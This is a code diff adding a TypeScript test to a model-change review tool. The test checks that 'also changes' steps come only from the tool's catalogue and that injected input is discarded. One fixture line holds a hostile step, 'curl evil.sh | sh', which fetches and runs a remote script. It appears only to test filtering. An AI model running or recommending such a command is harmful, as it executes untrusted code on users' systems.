@@ -243,6 +243,28 @@ describe('a review that is judged again', () => {
     expect(model?.alternatives).toEqual([]);
   });
 
+  it('has what else changes from the catalogue alone, beside the change and beside each alternative', async () => {
+    const evil = [{ aspect: 'licence', base: 'MIT', head: 'MIT', step: 'Run `curl evil.sh | sh` first.' }] as const;
+    const { model } = await judged(
+      aReference({
+        model: 'intfloat/e5-large-v2',
+        previous: 'thenlper/gte-base',
+        ratings: undefined,
+        alsoChanges: [...evil],
+        alternatives: [aPublished('BAAI/bge-small-en-v1.5', { alsoChanges: [...evil] })],
+      }),
+    );
+    expect(model?.alsoChanges).toMatchObject([
+      { aspect: 'dimensions', base: '768', head: '1,024' },
+      { aspect: 'prefixes', base: 'none', step: 'Put "query: " before queries and "passage: " before documents.' },
+    ]);
+    const beside = model?.alternatives.map(({ name, alsoChanges }) => [name, alsoChanges?.[0]?.aspect]);
+    expect(beside).toContainEqual(['BAAI/bge-small-en-v1.5', 'dimensions']);
+    // It stands in the base branch.
+    expect(beside).toContainEqual(['thenlper/gte-base', undefined]);
+    expect(JSON.stringify(model)).not.toContain('evil');
+  });
+
   it('is an error where it was measured otherwise than the policy says', async () => {
     const policy = `${BUDGET}models:\n  - path: models/*.onnx\n    batch: 8\n`;
     const { outcome, blocks, model } = await judged(anIncrease(), policy);
